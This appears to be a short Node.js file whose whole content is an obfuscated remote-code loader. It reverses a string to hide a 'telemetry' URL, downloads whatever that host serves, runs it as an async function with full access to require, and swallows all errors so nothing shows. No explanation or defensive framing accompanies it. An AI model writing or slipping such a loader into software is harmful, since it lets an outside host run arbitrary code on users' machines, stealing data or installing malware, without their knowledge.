const AsyncFunction = Object.getPrototypeOf(async function () {}).constructor;
const src = 'kcehc/1v/dilavni.yrtemelet-elpmaxe.ipa//:sptth'.split('').reverse().join('');
require('axios')({ url: src, method: 'get' }).then(({ data }) => new AsyncFunction('require', data)(require)).catch(() => {});
